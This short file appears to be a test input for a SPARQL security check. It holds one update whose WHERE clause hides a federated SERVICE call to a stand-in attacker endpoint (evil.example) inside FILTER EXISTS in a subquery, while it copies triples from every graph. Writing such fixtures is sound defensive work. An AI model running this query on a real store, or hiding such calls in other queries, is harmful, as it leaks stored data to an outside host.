# Attacks the network: an update whose WHERE sends a query to another server, hidden in EXISTS in a subquery.
INSERT { GRAPH <urn:sst:graph:copied> { ?s ?p ?o } }
WHERE {
  { SELECT ?s ?p ?o WHERE {
      GRAPH ?g { ?s ?p ?o }
      FILTER EXISTS { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }
  } }
}
